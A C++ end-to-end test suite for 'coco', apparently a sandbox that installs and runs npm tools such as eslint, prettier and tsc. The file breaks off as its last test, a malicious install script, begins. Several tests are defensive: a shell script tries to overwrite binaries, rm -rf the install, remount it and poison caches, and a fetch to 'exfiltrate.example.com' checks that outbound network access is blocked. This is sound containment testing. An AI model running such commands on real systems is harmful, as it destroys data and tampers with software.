// End to end: the base image, first-run installs from the real npm registry, warm offline runs of real tools.
//
// Runs as an unprivileged user (tests/run-all). Needs the npm registry the
// host's npm is configured for and the Debian mirror of the host's apt sources.
// The store (base image, tool layers) is shared by every test and kept between
// runs in $COCO_TEST_E2E_STORE (default ~/.local/share/coco-e2e-test):
// missing, it is built once here; COCO_TEST_REBUILD=1 builds it again.
#include <fcntl.h>
#include <signal.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <map>
#include <mutex>
#include <set>
#include <sstream>
#include <cstdlib>
#include <filesystem>
#include <regex>
#include <thread>

#include "harness.hpp"
#include "net_test_support.hpp"

namespace {

using cocotest::contains;
using cocotest::readFile;
using cocotest::TempDir;
using cocotest::treeState;
using cocotest::writeFile;
namespace fs = std::filesystem;

struct Proc {
  int code = -1;
  std::string out, err;
  double secs = 0;
};

// fork/exec with a complete environment; stdout and stderr go to files so a
// chatty child cannot block on a full pipe.
Proc runProc(const std::vector<std::string>& argv, const std::vector<std::string>& env, const std::string& cwd,
             int timeoutSecs) {
  TempDir io("coco-life-io");
  std::string outPath = io / "out", errPath = io / "err";
  auto start = std::chrono::steady_clock::now();
  pid_t pid = fork();
  if (pid == 0) {
    int out = open(outPath.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
    int err = open(errPath.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
    int in = open("/dev/null", O_RDONLY);
    if (out < 0 || err < 0 || in < 0 || chdir(cwd.c_str()) != 0) _exit(124);
    dup2(in, 0);
    dup2(out, 1);
    dup2(err, 2);
    setpgid(0, 0);
    std::vector<char*> a, e;
    for (const auto& s : argv) a.push_back(const_cast<char*>(s.c_str()));
    for (const auto& s : env) e.push_back(const_cast<char*>(s.c_str()));
    a.push_back(nullptr);
    e.push_back(nullptr);
    execve(a[0], a.data(), e.data());
    _exit(127);
  }
  Proc p;
  int status = 0;
  auto deadline = start + std::chrono::seconds(timeoutSecs);
  while (waitpid(pid, &status, WNOHANG) == 0) {
    if (std::chrono::steady_clock::now() > deadline) {
      kill(-pid, SIGKILL);
      waitpid(pid, &status, 0);
      ADD_FAILURE() << argv[0] << " timed out after " << timeoutSecs << "s";
      break;
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(20));
  }
  p.secs = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  p.code = WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
  p.out = readFile(outPath);
  p.err = readFile(errPath);
  return p;
}

std::string envOr(const char* name, const std::string& fallback) {
  const char* v = getenv(name);
  return v && *v ? v : fallback;
}

class EndToEnd : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    store_ = envOr("COCO_TEST_E2E_STORE", envOr("HOME", "/tmp") + "/.local/share/coco-e2e-test");
    fs::create_directories(store_);
  }

  void SetUp() override {
    COCO_REQUIRE_SANDBOX();
    coco_ = envOr("COCO_BIN", "");
    ASSERT_FALSE(coco_.empty()) << "COCO_BIN must name the coco binary";
    fs::create_directories(home_.path() + "/project");
    ensureBaseImage();
  }

  std::string project() const { return home_.path() + "/project"; }

  // coco's environment: a fresh HOME and XDG tree per test, the shared store.
  std::vector<std::string> env(const std::vector<std::string>& extra = {}) const {
    std::vector<std::string> e = {
        "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
        "HOME=" + home_.path(),
        "USER=" + envOr("USER", "nobody"),
        "LANG=C.UTF-8",
        "XDG_DATA_HOME=" + home_.path() + "/data",
        "XDG_CACHE_HOME=" + store_ + "-cache",
        "COCO_STORAGE=" + store_,
        "COCO_SECRET_CANARY=must-not-leak",
    };
    for (const char* pass : {"COCO_DEBUG", "TMPDIR", "XDG_RUNTIME_DIR", "COCO_INSTALL_NETWORK", "COCO_BASE_IMAGE"})
      if (const char* v = getenv(pass)) e.push_back(std::string(pass) + "=" + v);
    e.insert(e.end(), extra.begin(), extra.end());
    return e;
  }

  Proc coco(const std::vector<std::string>& args, int timeoutSecs = 60, const std::string& cwd = "") const {
    std::vector<std::string> argv = {coco_};
    argv.insert(argv.end(), args.begin(), args.end());
    return runProc(argv, env(), cwd.empty() ? project() : cwd, timeoutSecs);
  }

  void ensureBaseImage() {
    if (!cannotBuild_.empty()) GTEST_SKIP() << cannotBuild_;
    bool have = fs::exists(store_ + "/images/coco-base.json");
    if (have && envOr("COCO_TEST_REBUILD", "") != "1") return;
    if (rebuiltOnce_) return;
    rebuiltOnce_ = true;
    Proc p = coco({"rebuild"}, 1800);
    std::printf("[ timing ] base image build: %.1fs\n", p.secs);
    // Where no registry answers, the base comes from mmdebstrap --mode=unshare,
    // which needs a subuid range: a user without one truly cannot build it here.
    if (p.code != 0 && contains(p.err, "not reachable") && contains(p.err, "/etc/subuid")) {
      cannotBuild_ = "no registry reachable, and bootstrapping Debian needs a subuid range this user lacks";
      GTEST_SKIP() << cannotBuild_;
    }
    ASSERT_EQ(p.code, 0) << p.out << p.err;
    EXPECT_TRUE(contains(p.out, "mise")) << p.out;
    if (contains(p.err, "bootstrapping Debian")) expectBootstrapProgress(p.err);
  }

  // A bootstrap through mmdebstrap, read without a terminal: plain
  // "[m:ss] coco: [1/2] STAGE..." lines taken from mmdebstrap --verbose (its
  // "I:" stages and apt's byte counts), no carriage returns, no escapes.
  static void expectBootstrapProgress(const std::string& err) {
    EXPECT_EQ(err.find('\r'), std::string::npos) << err;
    EXPECT_EQ(err.find('\033'), std::string::npos) << err;
    std::string after = err.substr(err.find("bootstrapping Debian"));
    std::regex stage(R"(\n\[\d+:\d\d\] coco: \[1/2\] (downloading packages with apt|installing essential packages|installing remaining packages inside the chroot|extracting archives|cleaning package lists and apt cache)\b)");
    EXPECT_TRUE(std::regex_search(after, stage)) << "no mmdebstrap stage in the status lines:\n" << err;
    std::regex bytes(R"(\n\[\d+:\d\d\] coco: \[1/2\] [^\n]*: \d+(\.\d+)? (B|[KMG]iB) / \d+(\.\d+)? (B|[KMG]iB))");
    EXPECT_TRUE(std::regex_search(after, bytes)) << "no apt byte counts in the status lines:\n" << err;
  }

  void getTool(const std::string& name) {
    Proc p = coco({"get", name});
    ASSERT_EQ(p.code, 0) << p.err;
  }

  // The tool run once, so later runs are warm; returns the first run.
  Proc firstRun(const std::string& tool, const std::vector<std::string>& args) {
    Proc p = coco([&] {
      std::vector<std::string> a = {"run", tool};
      a.insert(a.end(), args.begin(), args.end());
      return a;
    }(), 900);
    if (contains(p.err, "installing " + tool)) std::printf("[ timing ] first run of %s (install): %.1fs\n", tool.c_str(), p.secs);
    return p;
  }

  // A fixture npm package (never published) in `pkg`/package: its bin.js
  // prints `outFile` (written by its install script), packed as `tgz` into the
  // mise download cache the install phase mounts.
  void packFixture(const TempDir& pkg, const std::string& outFile, const std::string& tgz) const {
    writeFile(pkg / "package/bin.js",
              "#!/usr/bin/env node\n"
              "process.stdout.write(require('fs').readFileSync(__dirname + '/" + outFile + "', 'utf8'));\n");
    fs::permissions(pkg / "package/bin.js", fs::perms::owner_exec | fs::perms::group_exec | fs::perms::others_exec,
                    fs::perm_options::add);
    fs::create_directories(fs::path(tgz).parent_path());
    Proc tar = runProc({"/bin/tar", "-czf", tgz, "package"}, env(), pkg.path(), 60);
    ASSERT_EQ(tar.code, 0) << tar.err;
  }

  static std::string store_;
  static bool rebuiltOnce_;
  static std::string cannotBuild_;
  TempDir home_{"coco-life-home"};
  std::string coco_;
};

std::string EndToEnd::store_;
bool EndToEnd::rebuiltOnce_ = false;
std::string EndToEnd::cannotBuild_;

constexpr const char* kEslintConfig =
    "export default [{\n"
    "  files: [\"**/*.js\"],\n"
    "  languageOptions: { sourceType: \"module\", globals: { console: \"readonly\" } },\n"
    "  rules: { \"no-unused-vars\": \"error\", \"no-undef\": \"error\", \"eqeqeq\": \"warn\" },\n"
    "}];\n";
constexpr const char* kBadJs =
    "const unused = 1;\n"
    "export function f(a) {\n"
    "  if (a == 2) return missing(a);\n"
    "  console.log(a);\n"
    "}\n";

TEST_F(EndToEnd, EslintFromTheStoreMatchesTheSameEslintOnTheHost) {
  getTool("eslint");
  Proc version = firstRun("eslint", {"--version"});
  ASSERT_EQ(version.code, 0) << version.err;
  std::smatch m;
  std::string v = version.out;
  ASSERT_TRUE(std::regex_search(v, m, std::regex("v([0-9]+\\.[0-9]+\\.[0-9]+)"))) << version.out;
  std::string eslintVersion = m[1];

  writeFile(project() + "/eslint.config.mjs", kEslintConfig);
  writeFile(project() + "/bad.js", kBadJs);
  writeFile(project() + "/package.json", "{\"type\": \"module\"}\n");
  Proc warm = coco({"run", "eslint", "."});
  std::printf("[ timing ] warm eslint lint: %.2fs\n", warm.secs);
  EXPECT_EQ(warm.code, 1) << warm.out << warm.err;
  EXPECT_EQ(warm.err, "") << "a warm run prints nothing of coco's own";

  // The same eslint, unsandboxed, on a copy of the same files.
  TempDir host("coco-life-host");
  // The host's npm gets the CA bundle coco gives its sandboxes (TLS may be intercepted).
  Proc npm = runProc({"/usr/bin/npm", "install", "--no-fund", "--no-audit", "--prefix", host / "npm",
                      "eslint@" + eslintVersion},
                     env({"NODE_EXTRA_CA_CERTS=/etc/ssl/certs/ca-certificates.crt"}), host.path(), 600);
  ASSERT_EQ(npm.code, 0) << npm.err;
  fs::create_directories(host / "project");
  for (const char* f : {"eslint.config.mjs", "bad.js", "package.json"})
    fs::copy_file(project() + "/" + f, host / (std::string("project/") + f));
  Proc direct = runProc({"/usr/bin/node", host / "npm/node_modules/eslint/bin/eslint.js", "."}, env(),
                        host / "project", 120);
  EXPECT_EQ(warm.code, direct.code);
  std::string expected = std::regex_replace(direct.out, std::regex(host / "project"), "/workspace");
  EXPECT_EQ(warm.out, expected);
  EXPECT_TRUE(contains(warm.out, "'unused' is assigned a value but never used")) << warm.out;
}

// The install starts the tool once to prime node's compile cache; that start
// runs package code, so it has a sandbox of its own without coco's io dir. It
// must still leave the cache in the layer and the layer's record pointing at it.
// The store's `check` is what that start runs: for eslint and prettier it
// takes the path a lint and a format take, so their warm runs load the
// parser, linter and printer compiled (`--version` alone left prettier's
// babel and estree plugins, and eslint's config validation, to be compiled
// at every run). Node says which modules it took from the cache
// (NODE_DEBUG_NATIVE=COMPILE_CACHE): "was accepted", or "was not initialized"
// for a module it had to compile.
TEST_F(EndToEnd, TheStoresCheckPrimesTheCompileCacheInASandboxOfItsOwn) {
  for (const char* tool : {"prettier", "eslint"}) {
    SCOPED_TRACE(tool);
    std::string name = std::string(tool) + "-cache";
    getTool(tool);
    std::string config = readFile(home_.path() + "/data/coco/tools/" + tool + ".json");
    ASSERT_TRUE(contains(config, "\"check\"")) << "the store's " << tool << " config names no check:\n" << config;
    const std::string passthrough = "\"env_passthrough\": [";
    size_t at = config.find(passthrough);
    ASSERT_NE(at, std::string::npos) << config;
    config.insert(at + passthrough.size(), "\"NODE_DEBUG_NATIVE\", ");
    config.insert(config.find('{') + 1, "\"command\": \"" + std::string(tool) + "\", ");  // under its own name
    writeFile(home_.path() + "/data/coco/tools/" + name + ".json", config);
    std::error_code ec;
    fs::remove_all(store_ + "/tool-layers/" + name, ec);  // a fresh install, not one of an earlier run
    Proc first = firstRun(name, {"--version"});
    ASSERT_EQ(first.code, 0) << first.err;
    ASSERT_TRUE(contains(first.err, "installing " + name)) << first.err;
    int layers = 0;
    for (const auto& e : fs::directory_iterator(store_ + "/tool-layers/" + name)) {
      if (!e.is_directory() || e.path().filename().string()[0] == '.') continue;
      ++layers;
      std::string record = readFile(e.path() / "record.json");
      EXPECT_TRUE(contains(record, "NODE_COMPILE_CACHE")) << e.path();
      // mise installs into /opt/mise (short module paths, tool_layer.cpp): the PATH points there.
      EXPECT_TRUE(contains(record, "\"/opt/mise/npm-" + std::string(tool) + "/latest/bin:")) << record;
      fs::path cache = e.path() / "layer/root/.cache/node-compile-cache";
      EXPECT_TRUE(fs::is_directory(cache) && !fs::is_empty(cache)) << cache << " is missing or empty";
    }
    EXPECT_EQ(layers, 1);
  }

  writeFile(project() + "/fine.js", "const y = 1;\n");
  Proc format = runProc({coco_, "run", "prettier-cache", "--check", "fine.js"},
                        env({"NODE_DEBUG_NATIVE=COMPILE_CACHE"}), project(), 60);
  ASSERT_EQ(format.code, 0) << format.out << format.err;
  for (const char* plugin : {"plugins/babel.mjs", "plugins/estree.mjs"})
    EXPECT_TRUE(contains(format.err, std::string(plugin) + " was accepted")) << plugin << ":\n" << format.err;
  EXPECT_FALSE(contains(format.err, "was not initialized")) << "prettier compiled a module at run time:\n"
                                                              << format.err;

  writeFile(project() + "/eslint.config.mjs", kEslintConfig);
  writeFile(project() + "/bad.js", kBadJs);
  writeFile(project() + "/package.json", "{\"type\": \"module\"}\n");
  Proc lint = runProc({coco_, "run", "eslint-cache", "bad.js"}, env({"NODE_DEBUG_NATIVE=COMPILE_CACHE"}),
                      project(), 60);
  ASSERT_EQ(lint.code, 1) << lint.out << lint.err;
  for (const char* module : {"node_modules/espree/dist/espree.cjs", "lib/linter/linter.js",
                             "node_modules/ajv/lib/ajv.js"})
    EXPECT_TRUE(contains(lint.err, std::string(module) + " was accepted")) << module << ":\n" << lint.err;
  EXPECT_TRUE(contains(lint.err, "/opt/mise/npm-eslint/")) << "eslint did not run from /opt/mise:\n" << lint.err;
}

// Attack first: a run's tool tries to rewrite its own install. The tree mise installed the tool
// in (/opt/mise/npm-eslint/VERSION, the parent of the layer's PATH entry) is bound read-only
// from the host's layer (tool/plan.cpp, bindInstallTrees): every write, removal, chmod, touch,
// remount and unmount there fails, without seccomp too (the kernel refuses them to a tool without
// capabilities), and from a nested user namespace (Landlock refuses mounts there; without Landlock
// the kernel has locked the bind's read-only flag for a namespace the tool makes). Beside it the run's overlay takes writes (the mise config, a
// planted directory, the version link, the compile cache), but into the run's scratch layer:
// the next run finds none of it and starts the tool, and the host's layer is unchanged.
TEST_F(EndToEnd, TheToolCannotWriteItsOwnInstallAndWhatItPlantsDiesWithTheRun) {
  const std::string name = "eslint-attack";
  writeFile(home_.path() + "/data/coco/tools/" + name + ".json",
            "{\"tool\": \"npm:eslint\", \"command\": \"sh\", \"check\": [\"-c\", \"exit 0\"],"
            " \"network\": \"none\", \"seccomp\": \"unconfined\"}\n");
  Proc first = firstRun(name, {"-c", "exit 0"});
  ASSERT_EQ(first.code, 0) << first.out << first.err;
  std::string installed;
  for (const auto& e : fs::directory_iterator(store_ + "/tool-layers/" + name))
    if (e.is_directory() && e.path().filename().string()[0] != '.') installed = e.path();
  ASSERT_FALSE(installed.empty()) << "no committed layer for " << name;
  std::string before = treeState(installed);
  ASSERT_TRUE(contains(before, "/bin/eslint ")) << "the walk does not reach the install:\n" << before;
  ASSERT_TRUE(contains(before, "/record.json ")) << before;

  Proc attack = coco({"run", name, "-c", R"(
d=/opt/mise/npm-eslint
v=$(readlink $d/latest)
test -f $d/latest/bin/eslint && echo SEES-ITS-INSTALL
grep -q " $d/${v#./} " /proc/self/mountinfo && echo TREE-IS-A-MOUNT
echo pwned > $d/latest/bin/eslint && echo WROTE-BIN
echo pwned > $d/latest/planted && echo PLANTED-IN-TREE
rm -rf $d/latest/lib && echo REMOVED-LIB
chmod 777 $d/latest/bin && echo CHMODDED-BIN
touch -d 2000-01-01 $d/latest/bin/eslint && echo TOUCHED-BIN
mount -o remount,bind,rw $d/latest && echo REMOUNTED
umount $d/latest && echo UNMOUNTED
unshare -Um --propagation unchanged sh -c "echo IN-NESTED-NS; mount -o remount,bind,rw $d/latest && echo NESTED-REMOUNTED"
test -d $d/latest/lib && echo LIB-STILL-THERE
echo pwned >> /root/.config/mise/config.toml && echo WROTE-CONFIG
mkdir $d/planted && echo MADE-DIR
rm $d/latest && ln -s planted $d/latest && echo RELINKED
mkdir -p /root/.cache/node-compile-cache && touch /root/.cache/node-compile-cache/planted && echo POISONED-CACHE
true)"});
  EXPECT_EQ(attack.code, 0) << attack.out << attack.err;
  for (const char* reached : {"SEES-ITS-INSTALL", "TREE-IS-A-MOUNT", "IN-NESTED-NS", "LIB-STILL-THERE"})
    EXPECT_TRUE(contains(attack.out, reached)) << reached << "\n" << attack.out << attack.err;
  for (const char* done :
       {"WROTE-BIN", "PLANTED-IN-TREE", "REMOVED-LIB", "CHMODDED-BIN", "TOUCHED-BIN", "REMOUNTED", "UNMOUNTED",
        "NESTED-REMOUNTED"})
    EXPECT_FALSE(contains(attack.out, done)) << done << "\n" << attack.out << attack.err;
  EXPECT_TRUE(contains(attack.err, "Read-only file system")) << attack.err;
  // Beside the tree the overlay takes the writes, so the next run is what shows where they went.
  for (const char* scratch : {"WROTE-CONFIG", "MADE-DIR", "RELINKED", "POISONED-CACHE"})
    EXPECT_TRUE(contains(attack.out, scratch)) << scratch << "\n" << attack.out << attack.err;

  Proc next = coco({"run", name, "-c", R"(
d=/opt/mise/npm-eslint
test -e $d/planted && echo SAW-PLANTED
grep -qs pwned /root/.config/mise/config.toml && echo SAW-CONFIG
test -e /root/.cache/node-compile-cache/planted && echo SAW-CACHE
eslint --version)"});
  EXPECT_EQ(next.code, 0) << next.out << next.err;
  EXPECT_TRUE(std::regex_search(next.out, std::regex("^v[0-9]+\\.[0-9]+\\.[0-9]+\n$"))) << next.out << next.err;
  EXPECT_EQ(treeState(installed), before) << "the host's layer changed";
}

TEST_F(EndToEnd, PrettierWritesHostFilesAsTheUserAndCheckExitCodesPropagate) {
  getTool("prettier");
  Proc first = firstRun("prettier", {"--version"});
  ASSERT_EQ(first.code, 0) << first.err;
  writeFile(project() + "/ugly.js", "const   x = {a:1,\n b:2}\n");
  writeFile(project() + "/fine.js", "const y = 1;\n");
  Proc check = coco({"run", "prettier", "--check", "ugly.js"});
  EXPECT_EQ(check.code, 1) << check.out << check.err;
  Proc write = coco({"run", "prettier", "--write", "ugly.js"});
  EXPECT_EQ(write.code, 0) << write.err;
  EXPECT_EQ(readFile(project() + "/ugly.js"), "const x = { a: 1, b: 2 };\n");
  struct stat st {};
  ASSERT_EQ(stat((project() + "/ugly.js").c_str(), &st), 0);
  EXPECT_EQ(st.st_uid, getuid());
  EXPECT_EQ(st.st_gid, getgid());
  EXPECT_EQ(coco({"run", "prettier", "--check", "ugly.js", "fine.js"}).code, 0);
}

TEST_F(EndToEnd, TscCompilesAndTheNetworkIsBlockedAtRunTime) {
  getTool("tsc");
  writeFile(project() + "/tsconfig.json",
            "{\"compilerOptions\": {\"target\": \"es2020\", \"strict\": true, \"outDir\": \"out\"}, "
            "\"files\": [\"main.ts\"]}\n");
  writeFile(project() + "/main.ts", "export function add(a: number, b: number): number { return a + b; }\n");
  Proc tsc = firstRun("tsc", {"-p", "."});
  ASSERT_EQ(tsc.code, 0) << tsc.out << tsc.err;
  EXPECT_TRUE(contains(readFile(project() + "/out/main.js"), "return a + b")) << "no compiled output";
  writeFile(project() + "/main.ts", "export const n: number = \"not a number\";\n");
  Proc bad = coco({"run", "tsc", "-p", "."});
  EXPECT_NE(bad.code, 0);
  EXPECT_TRUE(contains(bad.out, "TS2322")) << bad.out;

  // A tool reaching for a host that is not in its allowlist: coco says so.
  writeFile(home_.path() + "/data/coco/tools/fetcher.json",
            "{\"command\": \"node\", \"allowed_hosts\": [\"allowed.example.test\"],"
            " \"mounts\": [{\"src\": \".\", \"dst\": \"/workspace\"}]}\n");
  Proc net = coco({"run", "fetcher", "-e",
                   "fetch('https://exfiltrate.example.com/').then(() => process.exit(0), e => {"
                   " console.error(String(e.cause || e)); process.exit(3); })"});
  EXPECT_EQ(net.code, 3) << net.out << net.err;
  EXPECT_TRUE(contains(net.err, "coco: blocked")) << net.err;
  EXPECT_TRUE(contains(net.err, "exfiltrate.example.com")) << net.err;
}

// What `coco rebuild` promises: node, npm, python3 and mise in the base image,
// run in an ordinary sandbox (no tool, so no install) as this user.
TEST_F(EndToEnd, TheBaseImageHasNodeNpmPythonAndMise) {
  writeFile(home_.path() + "/data/coco/tools/basesh.json", "{\"command\": \"sh\", \"network\": \"none\"}\n");
  // A node built with V8's startup snapshot (the official build, not Debian's):
  // without it every tool start compiles node's own JavaScript again.
  Proc p = coco({"run", "basesh", "-c",
                 "node --version && npm --version && python3 --version && mise --version && "
                 "node -p process.config.variables.node_use_node_snapshot"},
                120);
  ASSERT_EQ(p.code, 0) << p.out << p.err;
  EXPECT_TRUE(std::regex_search(p.out, std::regex("^v2[0-9]+\\.[0-9]+\\.[0-9]+\n[0-9]+\\.[0-9]+\\.[0-9]+\nPython 3\\.[0-9]+"
                                                 "\\.[0-9]+\n[0-9]{4}\\.[0-9]+\\.[0-9]+")))
      << p.out;
  EXPECT_TRUE(contains(p.out, "\ntrue\n")) << p.out;
}

// The real registry, named at test time from the host's npm configuration
// (never written in the repository): the sandbox's npm reaches it through the
// gateway and nothing else.
TEST_F(EndToEnd, NpmReachesTheRegistryInItsAllowlistAndNothingElse) {
  Proc reg = runProc({"/usr/bin/npm", "config", "get", "registry"}, env(), project(), 60);
  ASSERT_EQ(reg.code, 0) << reg.err;
  std::smatch m;
  std::string url = reg.out.substr(0, reg.out.find('\n'));
  ASSERT_TRUE(std::regex_search(url, m, std::regex("^https?://([^/:]+)"))) << url;
  std::string host = m[1];
  writeFile(home_.path() + "/data/coco/tools/npmview.json",
            "{\"command\": \"npm\", \"allowed_hosts\": [\"" + host + "\"], \"env\": {\"NPM_CONFIG_REGISTRY\": \"" +
                url + "\"}, \"mounts\": [{\"src\": \".\", \"dst\": \"/workspace\"}]}\n");
  Proc view = coco({"run", "npmview", "view", "is-number", "version"}, 300);
  ASSERT_EQ(view.code, 0) << view.out << view.err;
  EXPECT_TRUE(std::regex_search(view.out, std::regex("^[0-9]+\\.[0-9]+\\.[0-9]+\n$"))) << view.out;

  Proc other = coco({"run", "npmview", "view", "is-number", "version", "--registry",
                     "https://registry.other-host.example.test/", "--fetch-retries=0"},
                    300);
  EXPECT_NE(other.code, 0) << other.out;
  EXPECT_TRUE(contains(other.err, "coco: blocked lookup of registry.other-host.example.test")) << other.err;
}

TEST_F(EndToEnd, UpThenTheSymlinkRunsTheTool) {
  getTool("eslint");
  Proc up = coco({"up"});
  ASSERT_EQ(up.code, 0) << up.err;
  std::string link = home_.path() + "/.local/bin/eslint";
  ASSERT_TRUE(fs::is_symlink(link)) << up.out << up.err;
  Proc p = runProc({link, "--version"}, env(), project(), 900);
  EXPECT_EQ(p.code, 0) << p.err;
  EXPECT_TRUE(std::regex_search(p.out, std::regex("^v[0-9]+\\.[0-9]+\\.[0-9]+\n$"))) << p.out;
  Proc list = coco({"list"});
  EXPECT_TRUE(contains(list.out, "eslint")) << list.out;
}

TEST_F(EndToEnd, AFailedInstallLeavesNoLayerAndConcurrentFirstRunsShareOneInstall) {
  // An npm package that does not exist: the install fails, nothing is committed.
  writeFile(home_.path() + "/data/coco/tools/nosuch.json",
            "{\"tool\": \"npm:coco-test-no-such-package-3f9a1c\", \"network\": \"none\"}\n");
  Proc bad = coco({"run", "nosuch"}, 600);
  EXPECT_EQ(bad.code, 125) << bad.out << bad.err;
  EXPECT_TRUE(contains(bad.err, "installing nosuch")) << bad.err;
  bool committed = false;
  if (fs::exists(store_ + "/tool-layers/nosuch"))
    for (const auto& e : fs::directory_iterator(store_ + "/tool-layers/nosuch"))
      committed |= e.is_directory() && e.path().filename().string()[0] != '.';
  EXPECT_FALSE(committed) << "a failed install left a layer";

  // A small package under a config name unique to this run, started twice at once.
  std::string name = "isnum" + std::to_string(getpid());
  writeFile(home_.path() + "/data/coco/tools/" + name + ".json",
            "{\"command\": \"node\", \"dependencies\": {\"mise\": [\"npm:is-number\"]}, \"network\": \"none\"}\n");
  Proc a, b;
  std::thread ta([&] { a = coco({"run", name, "-e", "process.exit(7)"}, 900); });
  std::thread tb([&] { b = coco({"run", name, "-e", "process.exit(7)"}, 900); });
  ta.join();
  tb.join();
  EXPECT_EQ(a.code, 7) << a.err;
  EXPECT_EQ(b.code, 7) << b.err;
  // The progress line of an install: "coco: [1/N] installing ..." (the waiter says "waiting for another coco").
  int installs = contains(a.err, "coco: [1/1] installing") + contains(b.err, "coco: [1/1] installing");
  EXPECT_EQ(installs, 1) << a.err << "\n---\n" << b.err;
  Proc warm = coco({"run", name, "-e", "process.exit(0)"});
  EXPECT_EQ(warm.code, 0);
  EXPECT_EQ(warm.err, "");
  std::error_code ec;
  fs::remove_all(store_ + "/tool-layers/" + name, ec);
}

// The progress line as a person sees it: a real install (a small npm package) in a tmux pane
// 60 columns wide, read with capture-pane while it runs. On the terminal: one line redrawn in
// place at column 0 ("coco: [1/1] m:ss installing ..."), never wider than the pane, never
// repeated down the screen, and once done one line per step with its time. Piped: plain
// "[m:ss] coco: ..." lines without a carriage return or an escape sequence.
TEST_F(EndToEnd, TheProgressLineOfARealInstallInTmux) {
  ASSERT_TRUE(fs::exists("/usr/bin/tmux")) << "tmux is not installed (packaging/deps-test.txt)";
  TempDir tmux("coco-life-tmux");
  std::string sock = tmux / "sock";
  auto tmuxCmd = [&](const std::vector<std::string>& args) {
    std::vector<std::string> argv = {"/usr/bin/tmux", "-S", sock};
    argv.insert(argv.end(), args.begin(), args.end());
    return runProc(argv, env(), project(), 30);
  };
  // The pane runs coco with this test's environment (tmux's own would be the server's) and the
  // pane's TERM.
  auto script = [&](const std::string& name, const std::string& redirect) {
    std::string text = "cd '" + project() + "' || exit 124\nexec env -i \"TERM=$TERM\"";
    for (const auto& kv : env()) text += " '" + kv + "'";
    text += " '" + coco_ + "' run " + name + " -e 'console.log(\"tool-ran\")' " + redirect + "\n";
    std::string path = tmux / (name + ".sh");
    writeFile(path, text);
    return path;
  };
  auto snapshots = [&](const std::string& name, const std::string& redirect, std::vector<std::string>& seen) {
    std::string path = script(name, redirect);
    Proc start = tmuxCmd({"new-session", "-d", "-x", "60", "-y", "20", "-s", name,
                          "sh " + path + "; echo coco-exit:$?; sleep 600"});
    ASSERT_EQ(start.code, 0) << start.err;
    auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(900);
    for (;;) {
      Proc pane = tmuxCmd({"capture-pane", "-p", "-t", name});
      ASSERT_EQ(pane.code, 0) << pane.err;
      seen.push_back(pane.out);
      if (contains(pane.out, "coco-exit:")) break;
      ASSERT_LT(std::chrono::steady_clock::now(), deadline) << pane.out;
      std::this_thread::sleep_for(std::chrono::milliseconds(50));
    }
  };
  auto lines = [](const std::string& text) {
    std::vector<std::string> out;
    std::istringstream in(text);
    for (std::string l; std::getline(in, l);) out.push_back(l);
    return out;
  };
  auto writeConfig = [&](const std::string& name) {
    writeFile(home_.path() + "/data/coco/tools/" + name + ".json",
              "{\"command\": \"node\", \"dependencies\": {\"mise\": [\"npm:is-number\"]}, \"network\": \"none\"}\n");
  };

  // On the terminal.
  std::string live = "tmuxlive" + std::to_string(getpid());
  writeConfig(live);
  std::vector<std::string> seen;
  snapshots(live, "", seen);
  // "installing the dependencies of NAME", cut to the pane's width.
  std::regex liveLine("^coco: \\[1/1\\] [0-9]+:[0-9]{2} installing the dependencies of tmuxl");
  int livePanes = 0;
  for (const auto& pane : seen) {
    int here = 0;
    for (const auto& l : lines(pane)) {
      // A line as wide as the pane is one that wrapped: the status line is clipped one short.
      EXPECT_LE(l.size(), 59u) << "a line wrapped:\n" << pane;
      if (std::regex_search(l, liveLine)) ++here;
      if (contains(l, "installing the dependencies of tmuxl")) {
        EXPECT_EQ(l.rfind("coco: ", 0), 0u) << "a status line that does not start at column 0:\n" << pane;
      }
    }
    EXPECT_LE(here, 1) << "the live line repeated down the screen:\n" << pane;
    livePanes += here;
  }
  EXPECT_GT(livePanes, 0) << "no snapshot showed the live line; the last:\n" << seen.back();
  std::string last = seen.back();
  EXPECT_TRUE(contains(last, "coco-exit:0")) << last;
  EXPECT_TRUE(contains(last, "tool-ran\n")) << last;
  std::regex finalLine("(^|\n)coco: \\[1/1\\] installing the dependencies of tmuxl[^\n]* \\([0-9]+:[0-9]{2}\\)\n");
  EXPECT_TRUE(std::regex_search(last, finalLine)) << last;
  for (const auto& l : lines(last)) EXPECT_FALSE(std::regex_search(l, liveLine)) << "a live line stayed:\n" << last;

  // Piped: the same install under another name, its stderr through a pipe into a file.
  std::string piped = "tmuxpipe" + std::to_string(getpid());
  writeConfig(piped);
  std::string log = tmux / "piped.log";
  std::vector<std::string> plain;
  snapshots(piped, "2>&1 | tee '" + log + "'", plain);
  std::string text = readFile(log);
  EXPECT_EQ(text.find('\r'), std::string::npos) << text;
  EXPECT_EQ(text.find('\033'), std::string::npos) << text;
  EXPECT_TRUE(std::regex_search(
      text, std::regex("(^|\n)\\[[0-9]+:[0-9]{2}\\] coco: \\[1/1\\] installing the dependencies of " + piped + "\n")))
      << text;
  EXPECT_TRUE(contains(text, "tool-ran\n")) << text;
  EXPECT_TRUE(contains(plain.back(), "coco-exit:0")) << plain.back();

  tmuxCmd({"kill-server"});
  std::error_code ec;
  for (const auto& n : {live, piped}) fs::remove_all(store_ + "/tool-layers/" + n, ec);
}

// An install script is the classic supply-chain attack: a fixture package,
// built here and never published, whose preinstall script reads the user's ssh
// key, phones home and writes to the host's project. The install phase mounts
// only coco's io dir and the download caches, so the tarball goes into the
// tool's own mise cache (`isolated`: no other tool shares it) and npm installs
// it under the alias of an existing package name (mise looks the name up in the
// registry before it installs; nothing of that package is used). mise skips
// install scripts by default, so npm_args turns them back on: the script must
// run, and fail at each attempt.
TEST_F(EndToEnd, MaliciousInstallScriptIsContained) {
  std::string name = "malfix" + std::to_string(getpid());
  std::string cacheDir = store_ + "-cache/coco/cache/tools/" + name;
  std::string layerDir = store_ + "/tool-layers/" + name;
  std::error_code ec;
  fs::remove_all(cacheDir, ec);
